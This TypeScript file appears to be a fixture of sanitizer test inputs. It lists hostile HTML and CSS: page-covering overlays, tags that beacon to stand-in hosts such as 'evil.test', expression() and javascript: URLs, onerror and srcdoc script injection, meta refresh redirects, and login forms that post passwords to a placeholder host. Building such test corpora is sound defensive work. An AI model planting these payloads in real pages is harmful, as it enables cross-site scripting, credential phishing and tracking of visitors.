/** What asks the network for something, covers the page, or asks the reader for something. */

const covers = [
  'position:fixed;inset:0;z-index:9999;background:red', 'position:absolute;top:-999px;left:-999px;width:9999px;height:9999px', 'position:sticky;top:0',
    'margin:-9999px', 'transform:scale(99)', 'transform:translate(-99px,-99px)', 'zoom:99', 'font-size:9999px', 'inset:0;position:FIXED', 'position:/**/fixed',
    'p\\6fsition:fixed', 'outline:9999px solid red', 'box-shadow:0 0 0 9999px red', 'display:none', 'visibility:hidden', 'opacity:0', 'color:transparent',
    'pointer-events:all;position:fixed;inset:0', 'float:left;width:100vw;height:100vh', 'view-transition-name:root', 'anchor-name:--a',
    'content-visibility:auto', 'cursor:none', 'animation:x 1s', '--color-text:red', 'filter:blur(9px)', 'mix-blend-mode:difference', 'writing-mode:vertical-rl',
    'direction:rtl;unicode-bidi:bidi-override',
]
const askers = [
  'background:url(EVIL)', 'background:url("EVIL")', "background-image:url('PATH')", 'background:u\\72l(EVIL)', 'background:URL(EVIL)',
    'background:url(//evil.test/x)', 'background:image-set("EVIL" 1x)', 'background:-webkit-image-set(url(EVIL) 1x)', 'background:cross-fade(url(EVIL),red)',
    'list-style:url(EVIL)', 'list-style-image:url(EVIL)', 'border-image:url(EVIL) 1', 'cursor:url(EVIL),auto', 'content:url(EVIL)', 'mask:url(EVIL)',
    'mask-image:url(EVIL)', '-webkit-mask-image:url(EVIL)', 'clip-path:url(EVIL#x)', 'filter:url(EVIL#x)', 'shape-outside:url(EVIL)', 'offset-path:url(EVIL#x)',
    'fill:url(EVIL#x)', 'marker:url(EVIL#x)', 'src:url(EVIL)', 'behavior:url(EVIL)', '-moz-binding:url(EVIL#x)', 'width:expression(HIT)',
    'width:e/**/xpression(HIT)', 'background:url(javascript:HIT)', 'background:url("data:image/svg+xml,<svg onload=HIT>")', 'x:expr\\65ssion(HIT)',
    '@import "EVIL"', 'background:var(--x,url(EVIL))', 'background:attr(x url)',
]

export const styles: string[] = [
  ...covers.map((css) => `<div style="${css}" onclick=HIT>x</div>`), ...askers.map((css) => `<p style='${css}'>x</p>`),
  ...['@import "EVIL";', '@import url(EVIL);', "@import'EVIL';", '@IMPORT "EVIL";', '@\\69mport "EVIL";',
    '@font-face{font-family:x;src:url(EVIL)}*{font-family:x}', '*{display:none!important}', 'body{background:url(EVIL)}',
    'input[value^=a]{background:url(EVIL)}', 'html::before{content:url(EVIL);position:fixed;inset:0}', '@namespace x url(EVIL);',
    '@media all{*{background:url(EVIL)}}', '@layer overrides{*{display:none!important}}',
    '@property --x{syntax:"*";inherits:true;initial-value:url(EVIL)}*{background:var(--x)}', '@keyframes x{from{background:url(EVIL)}}*{animation:x 1s}',
    '@view-transition{navigation:auto}', ':root{--color-text:red}', '</style><img src=x onerror=HIT>', '<!--*{background:url(EVIL)}-->',
    '*{behavior:url(EVIL)}', 'a{b:expression(HIT)}', '@charset "utf-7";', '@page{background:url(EVIL)}', '@container (width>0){*{display:none}}',
    '@scope{*{display:none}}'].flatMap((css, index) => [`<style>${css}</style>`, ...(index % 3 === 0 ? [`<svg><style>${css}</style></svg>`,
    `<b>x</b><STYLE type=text/css media=all>${css}`] : [])]),
  '<link rel=stylesheet href="data:text/css,*{display:none}">', '<link rel=stylesheet href=EVIL>', '<link rel="alternate stylesheet" href=PATH title=x>',
    '<p class="visually-hidden">x</p>', '<p style>x</p>', '<font color=red size=7 face=x>x</font>',
    '<p align=center width=9999 height=9999 bgcolor=red hspace=99>x</p>', '<dialog open style="inset:0">x</dialog>',
    '<div popover=manual style="inset:0">x</div>', '<marquee scrollamount=99>x</marquee>', '<p hidden=until-found>x</p>', '<div inert>x</div>',
]

const sources = ['EVIL', 'PATH', '//evil.test/x', '/\\evil.test/x', 'http://evil.test/x', 'data:image/svg+xml,<svg onload=HIT>', 'blob:https://evil.test/1',
  'ftp://evil.test/x']
export const subresources: string[] = [
  ...sources.flatMap((url) => [`<img src="${url}">`, `<img srcset="${url} 1x">`, `<video poster="${url}"></video>`, `<link rel=icon href="${url}">`, `<object data="${url}"></object>`]),
  ...['img src=EVIL loading=lazy', 'img src=EVIL loading=eager fetchpriority=high', 'img srcset="EVIL 9w" sizes=9px', 'img lowsrc=EVIL', 'img dynsrc=EVIL',
    'img longdesc=EVIL', 'img usemap=EVIL', 'img src=EVIL crossorigin attributionsrc=EVIL', 'image src=EVIL', 'picture><source srcset=EVIL><img src=EVIL',
    'picture><source srcset="EVIL 1x" media=all><img', 'video src=EVIL', 'video autoplay preload=auto src=EVIL', 'video><source src=EVIL type=video/mp4',
    'video><track default src=EVIL kind=captions', 'audio src=EVIL autoplay', 'audio><source src=EVIL', 'input type=image src=EVIL', 'body background=EVIL',
    'table background=EVIL', 'table><td background=EVIL', 'thead background=EVIL', 'embed src=EVIL', 'embed code=EVIL', 'object classid=EVIL',
    'object codebase=EVIL data=x', 'object><param name=movie value=EVIL', 'applet code=EVIL archive=EVIL', 'bgsound src=EVIL', 'layer src=EVIL', 'xml src=EVIL',
    'html manifest=EVIL', 'base href=EVIL', 'base target=_top href=//evil.test/', 'head profile=EVIL', 'q cite=EVIL', 'blockquote cite=EVIL', 'del cite=EVIL',
    'command icon=EVIL', 'div itemscope itemtype=EVIL', 'portal src=EVIL', 'fencedframe src=EVIL', 'model src=EVIL', 'a ping=EVIL href=EVIL',
    'a attributionsrc=EVIL href=EVIL', 'area ping=EVIL href=EVIL', 'script src=EVIL', 'isindex action=EVIL', 'canvas><img src=EVIL', 'noscript><img src=EVIL',
    'svg><image href=EVIL', 'math><mglyph src=EVIL'].map((inner) => `<${inner}>`),
  ...['preload as=image', 'preload as=fetch', 'preload as=script', 'modulepreload', 'prefetch', 'prerender', 'dns-prefetch', 'preconnect', 'next', 'manifest',
    'import', 'stylesheet', 'icon', '"shortcut icon"', 'apple-touch-icon', 'pingback', 'expect', 'compression-dictionary', 'canonical',
    'search'].map((rel) => `<link rel=${rel} href=EVIL>`),
  ...['refresh content="0;url=EVIL"', 'refresh content="0;url=javascript:HIT"', 'refresh content="0;url=data:text/html,<script>HIT</script>"',
    'refresh content="0"', 'refresh content="0;PATH"', 'REFRESH content="0; URL=\'EVIL\'"', 'content-security-policy content="default-src *"',
    'set-cookie content="foyer-language=XX"', 'x-dns-prefetch-control content=on', 'origin-trial content=x', 'accept-ch content=dpr',
    'delegate-ch content="sec-ch-dpr EVIL"', 'default-style content=x'].map((value) => `<meta http-equiv=${value}>`),
  '<meta name=referrer content=unsafe-url>', '<meta name=viewport content="width=99">', '<meta name=theme-color content=red>',
    '<meta name=color-scheme content=only>',
]

export const forms: string[] = [
  ...['EVIL', 'PATH', 'javascript:HIT', 'data:text/html,<script>HIT</script>',
    ''].flatMap((url) => [`<form action="${url}"><input name=password type=password><button>Log in</button></form>`,
    `<form><button formaction="${url}">x</button></form>`, `<form id=f></form><input form=f type=submit formaction="${url}">`,
    `<form><input type=image formaction="${url}" src=PATH>`, `<form method=post target=_top action="${url}"><select name=x><option>y</select></form>`]),
  '<input type=password autocomplete=current-password autofocus>', '<input name=username autocomplete=username>', '<input type=file>',
    '<input type=hidden name=x value=y>', '<textarea autofocus>x</textarea>', '<button type=submit>x</button>',
    '<button popovertarget=root popovertargetaction=hide>x</button>', '<button commandfor=root command=close>x</button>', '<button interestfor=root>x</button>',
    '<label for=search>x</label>', '<output for=x>x</output>', '<fieldset disabled>x</fieldset>', '<datalist id=x><option value=y></datalist>',
    '<select multiple size=99><option>x</select>', '<details name=x open>x</details>', '<keygen autofocus>', '<isindex type=image src=EVIL>',
    '<dialog open><form method=dialog><button>x</button></form></dialog>', '<p contenteditable=true>x</p>', '<meter value=1></meter><progress></progress>',
]

export const frames: string[] = [
  ...['EVIL', 'PATH', 'javascript:HIT', 'data:text/html,<script>HIT</script>', '/', 'about:blank'].flatMap((url) => [`<iframe src="${url}"></iframe>`,
    `<frameset><frame src="${url}"></frameset>`, `<embed src="${url}" type=text/html>`, `<object data="${url}" type=text/html></object>`]),
  '<iframe srcdoc="<script>HIT</script>"></iframe>', '<iframe srcdoc="<img src=x onerror=HIT>">', "<iframe srcdoc='&lt;script&gt;HIT&lt;/script&gt;'>",
    '<iframe/srcdoc=<script>HIT</script>>', '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>HIT</script>">',
    '<iframe src=EVIL allow="camera;microphone;payment" allowfullscreen>', '<iframe src=EVIL style="position:fixed;inset:0;width:100%;height:100%">',
    '<iframe loading=lazy src=EVIL>', '<iframe csp="script-src *" src=EVIL>', '<iframe name=_top src=EVIL>', '<iframe credentialless src=EVIL>',
    '<iframe onload=HIT>', '<noframes><img src=x onerror=HIT></noframes>', '<ilayer src=EVIL>', '<webview src=EVIL></webview>',
    '<iframe><img src=x onerror=HIT></iframe>',
]
